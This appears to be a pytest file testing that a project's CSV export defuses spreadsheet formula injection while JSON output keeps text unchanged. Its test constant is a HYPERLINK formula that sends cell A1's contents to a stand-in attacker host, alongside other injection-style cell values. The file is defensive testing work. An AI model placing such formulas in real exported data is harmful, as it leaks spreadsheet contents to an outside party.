"""CSV cells that a spreadsheet would run as formulas are neutralised; numbers and the JSON are not."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd

from interp_playground.io import csv_safe, csv_text
from interp_playground.judge import write_judged
from interp_playground.judge.api import judged_csv_text

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def judged_row(**fields):
    row = {
        "id": 1, "question": "What now?", "response": "fine", "answer_idx": 0, "steering_layer": 3,
        "steering_strength": -2.0, "aligned_score": 80.0, "coherent_score": 90.0, "condition": "c",
        "aligned_reason": None, "coherent_reason": None,
        "judge": {"backend": "openai", "model": "m", "mode": "logprob"},
    }
    row.update(fields)
    return row


def test_csv_safe_prefixes_only_dangerous_text():
    for text in (EVIL, "+1", "-cmd", "@SUM(A1)", "\tx", "\rx", "-", "-2"):
        assert csv_safe(text) == "'" + text
    for value in ("fine", "", " =not first", "'=already", -2.0, -3, 0, None, True, 1.5):
        assert csv_safe(value) == value
    text = csv_text(["a", "=b"], [[EVIL, -2.0], ["ok", 3]])
    assert list(csv.reader(io.StringIO(text))) == [["a", "'=b"], ["'" + EVIL, "-2.0"], ["ok", "3"]]


def test_judged_csv_neutralises_formulas_and_json_keeps_them(tmp_path):
    rows = [
        judged_row(response=EVIL, question="+SUM(1,2)"),
        judged_row(id=2, response="@cmd", aligned_score="CODE", aligned_reason="-weird reason"),
        judged_row(id=3, response="\tTabbed", coherent_score=None, steering_strength=-1.5),
        judged_row(id=4, response="plain -2.0 text", condition="-c"),
    ]
    csv_path, json_path = tmp_path / "judged.csv", tmp_path / "judged.json"
    write_judged(rows, csv_path, json_path)
    table = list(csv.DictReader(csv_path.open(encoding="utf-8", newline="")))
    assert table[0]["response"] == "'" + EVIL and table[0]["question"] == "'+SUM(1,2)"
    assert table[1]["response"] == "'@cmd" and table[1]["aligned_reason"] == "'-weird reason"
    assert table[2]["response"] == "'\tTabbed" and table[3]["condition"] == "'-c"
    assert table[3]["response"] == "plain -2.0 text"
    # numbers stay numbers, negative ones included
    assert [r["steering_strength"] for r in table] == ["-2.0", "-2.0", "-1.5", "-2.0"]
    assert table[0]["aligned_score"] == "80.0" and table[1]["aligned_score"] == "CODE"
    assert judged_csv_text(rows) == csv_path.read_text(encoding="utf-8")
    frame = pd.read_csv(csv_path)
    assert frame["steering_strength"].tolist() == [-2.0, -2.0, -1.5, -2.0]
    # the JSON keeps every text verbatim
    assert [r["response"] for r in json.loads(json_path.read_text(encoding="utf-8"))] == [
        EVIL, "@cmd", "\tTabbed", "plain -2.0 text"]
